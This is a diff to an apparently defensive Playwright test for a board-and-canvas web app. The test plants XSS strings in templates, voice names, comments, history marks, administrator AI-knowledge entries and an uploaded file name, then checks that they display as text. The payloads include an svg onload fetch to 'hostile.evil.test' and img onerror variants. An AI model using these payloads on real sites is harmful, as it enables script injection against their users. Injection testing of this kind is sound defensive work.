@@ -3,7 +3,7 @@ import { newId } from '../../src/contract/base/id.ts';
 import { blankEdge, blankNode } from '../../src/contract/board/blank.ts';
 import { attacks } from '../injection/attacks.ts';
 import { bringLogin, cards, fitView, tool, wire } from './actions.ts';
-import { callFrom } from './place-actions.ts';
+import { callFrom, chooseFiles, fileRow } from './place-actions.ts';
 import { test } from './test.ts';
 
 const SCRIPT = `"><svg/onload=fetch('https://hostile.evil.test/')><img src=x onerror=alert(1)>`;
@@ -36,7 +36,7 @@ async function watch(page: Page): Promise<string[]> {
 /** Two hundred hostile texts in what people name and write; answers where they are to be seen. */
 async function write(page: Page): Promise<{ canvas: string; org: string; project: string }> {
   const short = (i: number) => (payloads[i % payloads.length] ?? SCRIPT).slice(0, 190);
-  const canvas = await callFrom<{ id: string }>(page, '/api/canvases', {
+  const canvas = await callFrom<{ id: string; boardId: string }>(page, '/api/canvases', {
     title: SCRIPT,
     description: short(0),
     useTemplate: 'blank',
@@ -75,7 +75,24 @@ async function write(page: Page): Promise<{ canvas: string; org: string; project
   });
   for (let i = 0; i < 20; i += 1)
     await callFrom(page, '/api/prompts', { name: short(i).slice(0, 60), text: payloads[i] ?? SCRIPT });
+  await named(page, canvas.boardId, nodes[0]?.id ?? '');
   return { canvas: canvas.id, org: org.id, project: project.id };
+}
+
+/** What else people name: a template, a voice, a comment, a moment of the history. */
+async function named(page: Page, boardId: string, nodeId: string): Promise<void> {
+  const made = [
+    await callFrom(page, `/api/boards/${boardId}/templates`, { name: SCRIPT.slice(0, 60) }),
+    await callFrom(page, '/api/voices', { name: SCRIPT.slice(0, 40), texts: [SCRIPT] }),
+    await callFrom(page, `/api/boards/${boardId}/threads`, {
+      id: newId(Date.now()),
+      commentId: newId(Date.now()),
+      anchor: { on: 'node', nodeId },
+      body: SCRIPT,
+    }),
+    await callFrom(page, `/api/boards/${boardId}/history/marks`, { id: newId(Date.now()), name: SCRIPT.slice(0, 60) }),
+  ];
+  for (const one of made) expect(one).not.toHaveProperty('code');
 }
 
 test('two hundred hostile texts in every field stay texts on every screen', async ({ page, sharedServer }) => {
@@ -116,9 +133,37 @@ test('two hundred hostile texts in every field stay texts on every screen', asyn
     await expect(page.locator('.skeleton'), path).toHaveCount(0);
     await expect(page.locator('main, [role="application"]').first(), path).toBeVisible();
   }
+  await expect(page.locator('#voices')).toContainText('onerror');
+  await test.step('a template is offered under its name, and a file has its own', () => offered(page, project));
   await test.step('a hostile text is quoted in an answer as a text', () => quoted(page));
+  await test.step('what an administrator wrote for every chat is a text', async () => {
+    const administrator = { email: 'administrator@shared.example.com', name: '이관리' };
+    await bringLogin(page.context(), sharedServer.url, administrator);
+    await page.goto(`${sharedServer.url}/settings`);
+    const item = await callFrom<{ id: string }>(page, '/api/global-ai-knowledge', { title: SCRIPT, content: SCRIPT });
+    await page.reload();
+    await expect(page.locator('main')).toContainText('onerror=alert(1)');
+    await page.evaluate((id) => fetch(`/api/global-ai-knowledge/${id}`, { method: 'DELETE' }), item.id);
+  });
   expect(harms).toEqual([]);
 });
+
+async function offered(page: Page, project: string): Promise<void> {
+  const { origin } = new URL(page.url());
+  await page.goto(origin);
+  await page.getByRole('button', { name: '새 캔버스' }).first().click();
+  await expect(
+    page
+      .getByRole('dialog')
+      .getByRole('radio', { name: /onerror/ })
+      .first(),
+  ).toBeVisible();
+  await page.goto(`${origin}/projects/${project}`);
+  const name = '"><img src=x onerror=alert(1)>.txt';
+  await chooseFiles(page, [{ name, mimeType: 'text/plain', buffer: Buffer.from(SCRIPT) }]);
+  await page.getByRole('dialog').getByRole('button', { name: '파일 1개 올리기' }).click();
+  await expect(fileRow(page, 'onerror=alert(1)')).toBeVisible();
+}
 
 async function quoted(page: Page): Promise<void> {
   const { origin } = new URL(page.url());
